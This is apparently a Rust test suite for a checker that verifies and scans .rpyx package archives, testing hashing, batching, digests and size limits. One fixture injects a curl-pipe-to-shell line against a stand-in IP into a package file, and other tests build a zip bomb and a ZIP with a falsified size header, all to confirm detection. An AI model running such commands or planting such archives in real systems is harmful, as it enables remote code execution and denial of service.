//! The single pass: each file inflated once and the same bytes verified and
//! scanned; a known digest instead of a second hash; the reader's limits
//! holding throughout.

#[path = "../../revitpy-rpyx/tests/support/mod.rs"]
mod support;

use std::io::{Cursor, Write};
use std::path::{Path, PathBuf};

use revitpy_check::{ArchiveDigest, BATCH_BYTES, CheckOptions, Checked, ReadError, check_file};
use revitpy_rpyx::{BuildOptions, Limits, MANIFEST_ENTRY, Package, Severity, build};
use zip::write::SimpleFileOptions;

const MIB: usize = 1024 * 1024;

fn scanning() -> CheckOptions {
    CheckOptions { scan: true, ..CheckOptions::default() }
}

fn sha256(bytes: &[u8]) -> String {
    ArchiveDigest::of(bytes).sha256().to_owned()
}

/// An example built into `dir`.
fn built(name: &str, dir: &Path) -> PathBuf {
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples").join(name);
    let out = dir.join(format!("{name}.rpyx"));
    build(&src, &out, &BuildOptions::default()).unwrap_or_else(|e| panic!("{name}: {e}"));
    out
}

/// Every entry but folders, as stored.
fn entries_of(file: &Path) -> Vec<(String, Vec<u8>)> {
    let package = Package::open(file, Limits::default()).unwrap();
    package.entries().iter().filter(|e| !e.is_dir).map(|e| (e.path.clone(), package.read(e).unwrap())).collect()
}

/// A ZIP of stored (uncompressed) entries: large files without deflating them.
fn stored_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for (name, data) in entries {
        w.start_file(*name, options).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// `zip` with the size `name` declares (in its central directory record and
/// its local header) set to `size`: a header that lies.
fn declare_size(mut zip: Vec<u8>, name: &str, size: u32) -> Vec<u8> {
    let u16_at = |b: &[u8], at: usize| usize::from(u16::from_le_bytes([b[at], b[at + 1]]));
    // (signature, offset of the name's length, of the name, of the uncompressed size)
    for (sig, name_len_at, name_at, size_at) in [(b"PK\x01\x02", 28, 46, 24), (b"PK\x03\x04", 26, 30, 22)] {
        let mut patched = false;
        for at in 0..zip.len().saturating_sub(name_at) {
            if &zip[at..at + 4] == sig
                && zip.get(at + name_at..at + name_at + u16_at(&zip, at + name_len_at)) == Some(name.as_bytes())
            {
                zip[at + size_at..at + size_at + 4].copy_from_slice(&size.to_le_bytes());
                patched = true;
            }
        }
        assert!(patched, "no record for {name}");
    }
    zip
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

fn files_and_metadata(checked: &Checked) -> usize {
    checked.package.as_ref().expect("opened").entries().iter().filter(|e| !e.is_dir).count()
}

/// Bytes that deflate cannot shrink (a xorshift stream), so that large
/// files pass the reader's ratio checks.
fn noise(len: usize, mut seed: u64) -> Vec<u8> {
    (0..len)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed as u8
        })
        .collect()
}

#[test]
fn each_entry_is_inflated_once_with_the_scan_on() {
    let dir = tempfile::tempdir().unwrap();
    for options in [scanning(), CheckOptions::default()] {
        let checked = check_file(&built("wall-tools", dir.path()), &options).unwrap();
        assert!(checked.valid(), "{:?}", checked.problems);
        assert_eq!(checked.scan.is_some(), options.scan);
        let package = checked.package.as_ref().unwrap();
        // The manifest, rpyx-build.json and every file: once each.
        assert_eq!(package.inflations(), files_and_metadata(&checked));
        assert_eq!(checked.files.len() + 2, files_and_metadata(&checked));
    }
}

#[test]
fn a_package_larger_than_a_batch_is_read_once_in_several() {
    // Three files of 7 MiB: two batches of at most 16 MiB; the Python file
    // last, in the second batch.
    let manifest = support::manifest_json(serde_json::json!({"entry_points": {"run": "zz.py"}}));
    let data: Vec<Vec<u8>> = (1..=3).map(|seed| noise(7 * MIB, seed)).collect();
    let py = b"import subprocess\nsubprocess.call('x', shell=True)\n";
    let mut entries: Vec<(&str, &[u8])> = vec![(MANIFEST_ENTRY, &manifest)];
    let names = ["a.bin", "b.bin", "c.bin"];
    entries.extend(names.iter().zip(&data).map(|(n, d)| (*n, d.as_slice())));
    entries.push(("zz.py", py));
    const { assert!(3 * 7 * MIB > BATCH_BYTES && 2 * 7 * MIB <= BATCH_BYTES) };
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "big.rpyx", &stored_zip(&entries));

    let checked = check_file(&file, &scanning()).unwrap();
    assert_eq!(checked.package.as_ref().unwrap().inflations(), files_and_metadata(&checked));
    let hashed: Vec<(&str, u64)> = checked.files.iter().map(|r| (r.path.as_str(), r.size)).collect();
    assert_eq!(
        hashed,
        [("a.bin", 7 * MIB as u64), ("b.bin", 7 * MIB as u64), ("c.bin", 7 * MIB as u64), ("zz.py", py.len() as u64)]
    );
    assert_eq!(checked.files[1].sha256, sha256(&data[1]));
    let report = checked.scan.unwrap().unwrap();
    assert!(report.findings.iter().any(|f| f.file == "zz.py" && f.category == "process"), "{:#?}", report.findings);
    assert!(report.impact.reasons.iter().any(|r| r.contains("4 files")), "{:?}", report.impact.reasons);
}

#[test]
fn a_file_changed_after_the_build_is_a_problem_and_is_scanned_as_it_is() {
    let dir = tempfile::tempdir().unwrap();
    let original = built("wall-tools", dir.path());
    let mut entries = entries_of(&original);
    let main = entries.iter_mut().find(|(p, _)| p == "src/main.py").expect("wall-tools has src/main.py");
    let before = main.1.clone();
    main.1.extend_from_slice(b"\nimport os\nos.system('curl http://203.0.113.7/x | sh')\n");
    let after = main.1.clone();
    let refs: Vec<(&str, &[u8])> = entries.iter().map(|(p, b)| (p.as_str(), b.as_slice())).collect();
    let file = write(dir.path(), "changed.rpyx", &support::zip_of(&refs));

    let checked = check_file(&file, &scanning()).unwrap();
    assert!(!checked.valid());
    let p = checked.problems.iter().find(|p| p.file == "src/main.py").expect("the changed file is a problem");
    assert_eq!(p.severity, Severity::Error);
    assert_eq!(
        p.message,
        format!(
            "does not match rpyx-build.json: sha256 {} ({} bytes), expected {} ({} bytes)",
            sha256(&after),
            after.len(),
            sha256(&before),
            before.len()
        )
    );
    assert_eq!(checked.problems.len(), 1, "{:?}", checked.problems);
    // What was hashed is what was scanned: the added line is found.
    let report = checked.scan.unwrap().expect("every file was read");
    assert!(
        report.findings.iter().any(|f| f.file == "src/main.py" && f.category == "process"),
        "{:#?}",
        report.findings
    );
    assert_eq!(checked.package.as_ref().unwrap().inflations(), entries.len());
}

#[test]
fn an_entry_past_its_declared_size_stops_there_and_the_scan_says_why() {
    let manifest = support::manifest_json(serde_json::json!({}));
    let zip = support::zip_of(&[(MANIFEST_ENTRY, &manifest), ("a.py", b"print('a')\n"), ("b.py", &[b'#'; 40])]);
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "lying.rpyx", &declare_size(zip, "b.py", 4));

    let checked = check_file(&file, &scanning()).unwrap();
    assert!(!checked.valid());
    // Stopped by the zip crate or by the reader's own count, either way at
    // the declared size, and named.
    let problem = checked.problems.iter().find(|p| p.file == "b.py").expect("the lying entry is a problem");
    assert!(problem.message.contains("declare"), "{problem}");
    assert_eq!(checked.scan.as_ref().unwrap().as_ref().unwrap_err(), &format!("entry `b.py`: {}", problem.message));
    // The file that could be read was hashed; the other was not.
    assert_eq!(checked.files.iter().map(|r| r.path.as_str()).collect::<Vec<_>>(), ["a.py"]);
}

#[test]
fn a_known_digest_is_taken_instead_of_hashing_the_file_again() {
    let dir = tempfile::tempdir().unwrap();
    let file = built("wall-tools", dir.path());
    let real = ArchiveDigest::of(&std::fs::read(&file).unwrap());
    let hashed = check_file(&file, &scanning()).unwrap();
    assert_eq!(hashed.file_sha256, real.sha256());

    let known = check_file(&file, &CheckOptions { known_digest: Some(real.clone()), ..scanning() }).unwrap();
    assert_eq!((known.file_sha256.as_str(), known.file_size), (real.sha256(), real.size()));
    assert_eq!(known.problems, hashed.problems);
    assert_eq!(known.files, hashed.files);

    // The file is not hashed again: a digest of its size comes back as it
    // was given (the caller took it over the same bytes, as they arrived).
    let vouched = ArchiveDigest::new(&"ab".repeat(32), real.size()).unwrap();
    let trusted = check_file(&file, &CheckOptions { known_digest: Some(vouched.clone()), ..scanning() }).unwrap();
    assert_eq!(trusted.file_sha256, vouched.sha256());
    assert!(trusted.valid());
}

#[test]
fn a_known_digest_that_cannot_be_this_files_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let file = built("wall-tools", dir.path());
    let real = ArchiveDigest::of(&std::fs::read(&file).unwrap());
    // Taken over more bytes than the file has: the file changed, or the
    // digest is another file's. Refused before anything is read.
    let longer = ArchiveDigest::new(real.sha256(), real.size() + 1).unwrap();
    match check_file(&file, &CheckOptions { known_digest: Some(longer), ..scanning() }) {
        Err(e @ ReadError::NotWhatWasHashed { size, hashed }) => {
            assert_eq!((size, hashed), (real.size(), real.size() + 1));
            assert!(e.to_string().contains("changed after it was hashed"), "{e}");
        }
        Err(e) => panic!("expected NotWhatWasHashed, got {e}"),
        Ok(_) => panic!("a digest of other bytes was taken"),
    }
    // Not a sha256 at all: no digest can be made of it.
    for bad in ["", "ab", &"z".repeat(64), &format!("{} ", real.sha256())] {
        assert_eq!(ArchiveDigest::new(bad, real.size()), None, "{bad:?}");
    }
}

#[test]
fn limits_refuse_a_bomb_before_anything_is_inflated() {
    // 1,000 entries of 1 MiB of zeros, each under the per-entry ratio floor:
    // about 1 MB of archive expanding to 1000 MiB.
    let manifest = support::manifest_json(serde_json::json!({}));
    let zeros = vec![0u8; MIB];
    let copies: Vec<String> = (1..1000).map(|i| format!("data/zeros{i:04}.bin")).collect();
    let bomb = support::zip_with_copies(
        &[(MANIFEST_ENTRY, &manifest), ("data/zeros0000.bin", &zeros)],
        "data/zeros0000.bin",
        &copies,
    );
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "bomb.rpyx", &bomb);
    let checked = check_file(&file, &scanning()).unwrap();
    assert!(!checked.valid());
    assert_eq!(checked.problems.len(), 1, "{:?}", checked.problems);
    assert!(checked.problems[0].message.contains("zip bomb"), "{}", checked.problems[0]);
    assert_eq!(checked.file_size, bomb.len() as u64);
    assert!(checked.package.is_none() && checked.scan.is_none() && checked.files.is_empty());

    // The caller's limits are the ones applied: a real package past them.
    let example = built("wall-tools", dir.path());
    let tight = CheckOptions { limits: Limits { max_total_bytes: 1000, ..Limits::default() }, ..scanning() };
    let checked = check_file(&example, &tight).unwrap();
    assert!(!checked.valid() && checked.package.is_none());
    assert!(checked.problems[0].message.contains("total-size limit of 1000 bytes"), "{}", checked.problems[0]);
}

#[test]
fn what_cannot_be_opened_is_an_error_and_what_is_wrong_inside_a_problem() {
    let dir = tempfile::tempdir().unwrap();
    assert!(matches!(check_file(&dir.path().join("missing.rpyx"), &scanning()), Err(ReadError::Io { .. })));
    assert!(matches!(check_file(dir.path(), &scanning()), Err(ReadError::Destination(_))));
    let garbage = write(dir.path(), "garbage.rpyx", b"not a zip at all, not even close");
    let checked = check_file(&garbage, &scanning()).unwrap();
    assert!(!checked.valid() && checked.scan.is_none());
    assert!(checked.problems[0].message.contains("not a readable ZIP"), "{}", checked.problems[0]);
    // No manifest: nothing to scan with, the files are still verified.
    let no_manifest = write(dir.path(), "bare.rpyx", &support::zip_of(&[("main.py", b"x = 1\n")]));
    let checked = check_file(&no_manifest, &scanning()).unwrap();
    assert!(!checked.valid() && checked.scan.is_none());
    assert_eq!(checked.problems[0].file, MANIFEST_ENTRY);
    assert_eq!(checked.files.len(), 1);
}
